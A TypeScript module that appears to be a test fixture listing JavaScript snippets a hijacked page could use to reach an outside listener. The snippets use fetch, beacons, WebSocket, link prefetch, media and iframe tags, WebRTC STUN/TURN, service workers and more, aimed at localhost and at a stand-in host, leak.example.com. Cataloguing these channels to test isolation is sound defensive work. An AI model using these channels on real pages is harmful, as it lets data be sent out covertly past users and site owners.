/**
 * Ways by which a page that somebody took over would try to reach a listener, as code for the page. Each ends by itself;
 * whether it threw does not matter, what arrives does.
 */
export const leakTries: readonly string[] = [
  `fetch('http://127.0.0.1:80/x')`,
  `fetch('https://localhost/x', { mode: 'no-cors', keepalive: true })`,
  `navigator.sendBeacon('http://127.0.0.1:8080/x', 'x')`,
  `new WebSocket('ws://127.0.0.1:80/')`,
  `new EventSource('http://127.0.0.1:8080/')`,
  `Object.assign(new Image(), { src: 'http://127.0.0.1/x.png' })`,
  `new FontFace('x', 'url(http://127.0.0.1/x.woff2)').load()`,
  `document.body.style.backgroundImage = 'url(http://127.0.0.1/x.png)'`,
  `document.body.style.cursor = 'url(http://127.0.0.1/x.cur), auto'`,
  `new XMLHttpRequest().open('GET', 'http://127.0.0.1/', false)`,
  ...[
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
  ].map(
    (rel) =>
      `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', as: 'image', href: 'http://127.0.0.1:80/${rel}' }))`,
  ),
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//leak.example.com' }))`,
  ...['iframe', 'embed', 'object', 'video', 'audio', 'track', 'source', 'script'].map(
    (tag) =>
      `{ const e = document.createElement('${tag}'); e.setAttribute('src', 'http://127.0.0.1/${tag}'); e.setAttribute('data', 'http://127.0.0.1/${tag}'); document.body.append(e) }`,
  ),
  `{ const a = document.createElement('a'); a.href = '#x'; a.setAttribute('ping', 'http://127.0.0.1/ping'); document.body.append(a); a.click() }`,
  `{ const f = document.createElement('form'); f.action = 'http://127.0.0.1/form'; document.body.append(f); f.submit() }`,
  `window.open('http://127.0.0.1/window')`,
  `{ const pc = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }, { urls: 'turn:127.0.0.1:3478?transport=tcp', username: 'leak', credential: 'x' }] }); pc.createDataChannel('x'); pc.setLocalDescription() }`,
  `{ const f = document.body.appendChild(document.createElement('iframe')); const pc = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }, { urls: 'turn:127.0.0.1:3478?transport=tcp', username: 'leak', credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer)) }`,
  `{ const f = document.body.appendChild(document.createElement('iframe')); f.contentWindow.fetch('http://127.0.0.1:80/frame') }`,
  `new WebTransport('https://127.0.0.1:443/')`,
  `navigator.serviceWorker.register('http://127.0.0.1/sw.js')`,
  `location.href = 'http://127.0.0.1/address'`,
  `document.execCommand('insertHTML', false, '<img src=http://127.0.0.1/paste>')`,
  `{ const t = document.createElement('textarea'); t.spellcheck = true; t.lang = 'xx'; document.body.append(t); t.focus(); document.execCommand('insertText', false, 'mispeled wrods') }`,
  `new Notification('x', { icon: 'http://127.0.0.1/icon.png' })`,
  `new PaymentRequest([{ supportedMethods: 'http://127.0.0.1/pay' }], { total: { label: 'x', amount: { currency: 'CAD', value: '1' } } }).canMakePayment()`,
]
